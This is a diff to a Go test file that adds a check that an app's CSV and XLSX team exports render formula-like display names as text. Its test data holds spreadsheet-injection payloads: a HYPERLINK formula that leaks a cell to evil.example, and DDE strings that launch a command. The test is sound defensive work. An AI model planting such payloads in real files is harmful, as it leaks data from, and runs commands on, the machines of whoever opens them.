@@ -1,9 +1,14 @@
 package http_test
 
 import (
+	"bytes"
+	"context"
+	"encoding/csv"
 	"net/url"
 	"strings"
 	"testing"
+
+	"github.com/xuri/excelize/v2"
 
 	"github.com/academy/academy/internal/academy"
 )
@@ -134,5 +139,72 @@ func TestPhoneSearchNeedsTheWholeNumber(t *testing.T) {
 	// A search by name is no phone search.
 	if got := search("王芳"); len(got) != 1 || len(e.auditOf(academy.AuditPhoneSearched)) != len(audit) {
 		t.Errorf("search by name: %v", got)
+	}
+}
+
+// TestExportsHoldNoFormulas: a display name that a spreadsheet would run
+// as a formula reaches the CSV export as text, with the apostrophe
+// spreadsheets read as "text", and the XLSX export as a text cell.
+func TestExportsHoldNoFormulas(t *testing.T) {
+	e := newEnv(t)
+	names := map[string]string{
+		"eq":   `=HYPERLINK("http://evil.example/?"&A1,"点我")`,
+		"plus": "+1+cmd|' /C calc'!A0",
+		"dash": "-2+3",
+		"at":   "@SUM(1+1)*cmd|' /C calc'!A0",
+		"tab":  "\t=1+1",
+		"cr":   "\r=1+1",
+		"safe": "王-芳=",
+	}
+	for user, name := range names {
+		e.createUser(user, []string{academy.RoleTrainee}, []string{"s1"})
+		// Tabs and carriage returns cannot be typed into a profile (it
+		// is trimmed), but a record written by an import may hold them.
+		if _, err := e.accounts.Users.UpdateUser(context.Background(), user, academy.UserUpdate{DisplayName: &name}); err != nil {
+			t.Fatal(err)
+		}
+	}
+	res := e.api("GET", "/team/export/csv", "manager", nil)
+	if res.StatusCode != 200 {
+		t.Fatalf("csv: %d %s", res.StatusCode, res.Body)
+	}
+	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(res.Body, "\ufeff"))).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	got := map[string]string{}
+	for _, r := range rows[1:] {
+		got[r[0]] = r[1]
+	}
+	for user, name := range names {
+		want := "'" + name
+		if user == "safe" {
+			want = name
+		}
+		if got[user] != want {
+			t.Errorf("csv name of %s = %q, want %q", user, got[user], want)
+		}
+	}
+
+	x := e.api("GET", "/team/export/xlsx", "manager", nil)
+	f, err := excelize.OpenReader(bytes.NewReader([]byte(x.Body)))
+	if err != nil {
+		t.Fatalf("xlsx: %v", err)
+	}
+	xrows, err := f.GetRows("认证")
+	if err != nil {
+		t.Fatal(err)
+	}
+	for i, r := range xrows[1:] {
+		user := r[0]
+		cell, _ := excelize.CoordinatesToCellName(2, i+2)
+		formula, err := f.GetCellFormula("认证", cell)
+		kind, _ := f.GetCellType("认证", cell)
+		if err != nil || formula != "" || kind != excelize.CellTypeSharedString && kind != excelize.CellTypeInlineString {
+			t.Errorf("xlsx %s of %s: formula %q, type %v, err %v", cell, user, formula, kind, err)
+		}
+		if name, ok := names[user]; ok && r[1] != name {
+			t.Errorf("xlsx name of %s = %q, want %q", user, r[1], name)
+		}
 	}
 }
